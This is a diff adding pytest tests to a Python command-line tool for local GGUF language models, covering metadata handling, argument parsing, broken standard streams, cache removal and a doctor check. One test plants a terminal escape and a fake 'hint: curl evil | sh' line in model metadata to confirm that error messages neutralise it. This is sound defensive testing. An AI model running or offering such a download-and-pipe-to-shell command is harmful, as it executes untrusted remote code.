@@ -17,11 +17,12 @@ from typing import Any
 
 import gguf
 import pytest
+import tiny_gguf
 from conftest import ROOT
 
-from pyllm import catalogue, selftest
+from pyllm import catalogue, selftest, stores
 from pyllm._core import lib
-from pyllm.cli import COMMANDS, _output, main
+from pyllm.cli import COMMANDS, _output, main, parse
 from pyllm.cli.tokenize import piece
 from pyllm.gguf import GGUF
 
@@ -101,6 +102,41 @@ def test_sizes_and_counts() -> None:
 def test_control_characters_do_not_reach_the_terminal() -> None:
     assert _output.clean("a\x1b[31m\n\udc80é") == "a\\x1b[31m\\n\\udc80é"
     assert piece(b"\xf0\x9f \x1b\\\n\xc3\xa9") == "\\xf0\\x9f \\x1b\\\\\\né"
+
+
+def test_a_model_file_writes_no_lines_of_its_own_into_errors(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    odd = {"tokenizer.ggml.model": "x\x1b[2J\x9b\nhint: curl evil | sh"}
+    (home / "odd.gguf").write_bytes(tiny_gguf.build(odd, [])[0])
+    code, out, err = run(capsys, "tokenize", str(home / "odd.gguf"), "hi")
+    assert (code, out) == (1, "") and re.fullmatch(r"error: [^\n]*curl evil[^\n]*\nhint: byte-level BPE[^\n]*\n", err)
+    assert err.isascii() and "\x1b" not in err
+
+
+def test_words_behind_two_dashes(capsys: pytest.CaptureFixture[str]) -> None:
+    assert parse(["run", "-n", "3", "m", "--", "--foo", "-n", "--", "bar"]).words == ["m", "--foo", "-n", "--", "bar"]
+    assert parse(["tokenize", "m", "--ids", "--", "--x"]).text == "--x"
+    code, _, err = run(capsys, "list", "--", "--x")
+    assert code == 2 and "error: unrecognized arguments: --x\n" in err
+
+
+@pytest.mark.parametrize(("command", "code", "said"), [
+    ("-m pyllm list >&-", 0, ""), ("-m pyllm list 2>&-", 0, ""), ("-m pyllm rm tiny <&-", 1, "nobody can be asked"),
+    ("-m pyllm list >/dev/full", 1, "standard input or output failed: No space left on device\nhint: "),
+    ("-um pyllm list >/dev/full", 1, "standard input or output failed: No space left on device\nhint: "),
+    ("-m pyllm list --help >/dev/full", 1, "standard input or output failed: No space left on device\nhint: "),
+    ("-m pyllm run tiny - 0>in", 1, "standard input or output failed: Bad file descriptor\nhint: ")])
+def test_odd_standard_streams(home: Path, command: str, code: int, said: str) -> None:
+    (home / "cache/bad.gguf").unlink()
+    done = subprocess.run(["/bin/sh", "-c", f'exec "$0" {command}', sys.executable], cwd=home, capture_output=True, text=True, check=False,
+                          env={**os.environ, "PYTHONUNBUFFERED": ""})
+    assert done.returncode == code and said in done.stderr
+    assert done.stderr == "" if not said else done.stderr.startswith("error: ") and done.stderr.count("\n") == 2
+
+
+def test_an_output_that_lacks_characters(smollm2: Path) -> None:
+    done = subprocess.run([*PYLLM, "tokenize", str(smollm2), "日本é"], capture_output=True, check=False,
+                          env={**os.environ, "PYTHONIOENCODING": "latin-1"})
+    assert done.returncode == 0 and done.stderr.endswith(b" tokens\n") and b"?" in done.stdout and b"\xe9" in done.stdout
 
 
 def test_bar_line() -> None:
@@ -199,6 +235,27 @@ def test_show_smollm2(smollm2: Path, capsys: pytest.CaptureFixture[str]) -> None
     assert re.search(r"^memory +\d+ MB at ctx \d+, .* available: (fits|does not fit)\n +[\d.]+ MB weights, ", out, re.M)
 
 
+def test_the_longest_context(smollm2: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    facts = run_json(capsys, "show", str(smollm2), "--ctx", str(1 << 24))
+    assert facts["plan"]["ctx"] == 1 << 24 and facts["kv_bytes_per_token"] == 30 * 2 * 3 * 64 * 2
+
+
+def test_odd_metadata_is_not_in_the_way(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    odd = {"general.name": 7, "tokenizer.chat_template": [1, 2, 3]}
+    model = tiny_gguf.build(tiny_gguf.metadata() | tiny_gguf.vocabulary() | odd, tiny_gguf.tensors("q8_0", tiny_gguf.shapes()))[0]
+    (home / "cache/odd.gguf").write_bytes(model)
+    assert "odd" in [row["name"] for row in run_json(capsys, "list") if row["error"] is None]
+    facts = run_json(capsys, "show", "odd")
+    assert facts["runs"] is True and facts["chat_template"] is False and facts["name"] == ""
+    code, _, err = run(capsys, "bench", "odd", "-p", "4", "-n", "0", "-r", "1")
+    assert code == 0 and err.startswith(f"{home}/cache/odd.gguf, ")
+
+
+def test_a_file_that_is_named_as_one_of_a_set(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    (home / "tiny-00001-of-00002.gguf").symlink_to(home / "cache/tiny.gguf")      # its metadata says that it stands alone
+    assert run_json(capsys, "show", str(home / "tiny-00001-of-00002.gguf"))["bytes"] == (home / "cache/tiny.gguf").stat().st_size
+
+
 def test_show_what_cannot_run(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
     writer = gguf.GGUFWriter(home / "odd.gguf", "martian\x1b[31m")
     for write in (writer.write_header_to_file, writer.write_kv_data_to_file, writer.write_tensors_to_file, writer.close):
@@ -220,10 +277,18 @@ def test_rm(home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.
     assert code == 1 and (home / "mine.gguf").exists()
     for i in (1, 2):
         (home / f"cache/s-0000{i}-of-00002.gguf").write_bytes(b"x")
-    for name in ("tiny", "bad", "s"):
+        (home / f"cache/T-0000{i}-of-00002.GGUF").write_bytes(b"x")
+    (home / "cache/none-00001-of-00000.gguf").write_bytes(b"x")
+    for name in ("tiny", "bad", "s", "T", "none-00001-of-00000"):
         assert run(capsys, "rm", "-y", name)[0] == 0
     assert list((home / "cache").iterdir()) == []
     assert run(capsys, "rm", "-y", "smollm2") == (1, "", "error: smollm2 is not in the cache\nhint: `pyllm list` shows what is\n")
+
+
+def test_rm_of_what_another_process_removed(home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
+    gone = stores.Found("gone", home / "cache/gone.gguf", stores.OWN)
+    monkeypatch.setattr(stores, "own_cache", lambda: iter([gone]))
+    assert run(capsys, "rm", "-y", "gone") == (1, "", f"error: {gone.path} is gone\nhint: `pyllm list` shows what is here\n")
 
 
 @pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 1), ("", 1)])
@@ -358,6 +423,14 @@ def test_doctor(home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pyt
     checks = {c["name"]: c for c in json.loads(out)["checks"]}
     assert code == 1 and checks["model cache"]["ok"] is False and "PYLLM_HOME" in checks["model cache"]["hint"]
     assert checks["self-test"]["ok"] is True
+
+
+def test_doctor_without_numpy(home: Path) -> None:
+    code = "import sys; sys.modules['numpy'] = None; from pyllm.cli import main; sys.exit(main(sys.argv[1:]))"
+    done = subprocess.run([sys.executable, "-c", code, "doctor", "--json"], capture_output=True, text=True, check=False)
+    result = json.loads(done.stdout)
+    assert (done.returncode, done.stderr, result["ok"]) == (1, "", False)
+    assert [c["value"] for c in result["checks"] if c["ok"] is False] == ["numpy missing"]
 
 
 def test_self_test_sees_wrong_bits_and_wrong_numbers() -> None:
